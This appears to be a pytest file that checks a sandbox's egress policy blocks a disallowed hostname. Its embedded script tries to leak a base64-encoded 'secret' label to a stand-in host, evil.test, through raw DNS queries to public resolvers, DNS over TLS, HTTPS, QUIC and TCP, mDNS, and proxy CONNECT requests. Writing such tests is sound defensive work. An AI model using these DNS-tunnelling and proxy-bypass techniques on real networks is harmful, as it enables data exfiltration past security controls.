"""A name that is not allowed leaves a sandbox in no question: whatever way it is asked for, nobody outside hears it."""

from __future__ import annotations

import json

from tests.conftest import SandboxFactory

from .rig import Internet, Records

POLICY = {"egress": {"allow": [{"host": "good.test"}, {"host": "*.wide.test"}]}}
EVIL = "c2VjcmV0.evil.test"

INSIDE = r"""
import json, socket, struct, sys
evil = sys.argv[1]
def question(name, kind):
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)
def ask(to, name, kind, port=53):
    with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(60)
        try:
            s.sendto(question(name, kind), (to, port)); return s.recv(999)[3] & 15
        except OSError as error: return type(error).__name__
def said(to, port, data):
    try:
        with socket.create_connection((to, port), 60) as s:
            s.sendall(data); return s.recv(99).split(b"\r\n")[0].decode("latin-1")
    except OSError as error: return type(error).__name__
def resolve(name):
    try: return socket.getaddrinfo(name, 80)[0][4][0]
    except OSError: return "none"
found = {"getaddrinfo": resolve(evil), "below": resolve("c2VjcmV0.good.test"), "allowed": resolve("good.test")}
found["answers"] = {}
for to in ("8.8.8.8", "127.0.0.53", "127.0.0.1", "2001:4860:4860::8888", "198.18.0.1"):
    for kind in (1, 28, 16, 10, 255): found["answers"][f"{to} {kind}"] = ask(to, evil, kind)
found["txt"] = ask("8.8.8.8", "good.test", 16)
found["mdns"] = ask("224.0.0.251", "c2VjcmV0.local", 1, 5353)
found["doq"] = ask("94.140.14.14", evil, 1, 853)
framed = question(evil, 1)
framed = struct.pack("!H", len(framed)) + framed
head = f" HTTP/1.1\r\nhost: {evil}\r\n\r\n".encode()
found["ways"] = {
    "dot": said("9.9.9.9", 853, b"\x16\x03\x01\0\x05hello"),
    "doh": said("1.1.1.1", 80, f"GET /dns-query?name={evil} HTTP/1.1\r\nhost: 1.1.1.1\r\n\r\n".encode()),
    "doh by tls": said("1.1.1.1", 443, b"\x16\x03\x01\0\x05hello"),
    "absolute": said("198.18.0.1", 3128, f"GET http://{evil}/".encode() + head),
    "connect": said("198.18.0.1", 3128, f"CONNECT {evil}:443".encode() + head),
    "host": said("1.2.3.4", 80, b"GET /" + head),
}
with socket.create_connection(("8.8.8.8", 53), 60) as s:
    s.sendall(framed); found["by tcp"] = s.recv(999)[5] & 15
print(json.dumps(found))
"""


def test_a_name_that_is_not_allowed_leaves_the_sandbox_in_no_question(
    sandbox: SandboxFactory, internet: Internet, records: Records, who: str | None
) -> None:
    internet.site("good.test")
    made = sandbox(policy=POLICY)
    done = made.exec(("python3", "-c", INSIDE, EVIL), user=who, timeout_seconds=100)
    assert done.exit_code == 0, done
    told = json.loads(done.stdout)

    assert internet.questions == [], (
        "not even the gateway has asked for anything: nobody has called the one it may call"
    )
    assert internet.arrivals == []
    assert (told["getaddrinfo"], told["below"]) == ("none", "none")
    assert told["allowed"].startswith("198.18.")
    assert set(told["answers"].values()) == {3} == {told["by tcp"]}, "no such name"
    assert (told["txt"], told["mdns"], told["doq"]) == (0, "PermissionError", "PermissionError")
    heard = {way: said for way, said in told["ways"].items() if said.startswith(("HTTP/1.1 2", "HTTP/1.1 3"))}
    assert heard == {}
    assert records.denied(made.id, "egress.name", host=EVIL.lower())

    twin = made.exec("curl -sS -m 60 http://good.test/", user=who)
    assert twin.stdout == "hello", twin
    assert {name for name, _ in internet.questions} == {"good.test"}, "and the sinkhole would have heard it"
    assert internet.strays() == []


def test_a_label_below_a_wildcard_goes_to_the_resolver_when_somebody_calls_and_not_before(
    sandbox: SandboxFactory, internet: Internet
) -> None:
    internet.site("a.wide.test")
    made = sandbox(policy=POLICY)
    assert made.exec("getent hosts b.wide.test a.wide.test").exit_code == 0
    assert internet.questions == []
    assert made.exec("curl -sS -m 60 http://a.wide.test/").stdout == "hello"
    assert {name for name, _ in internet.questions} == {"a.wide.test"}
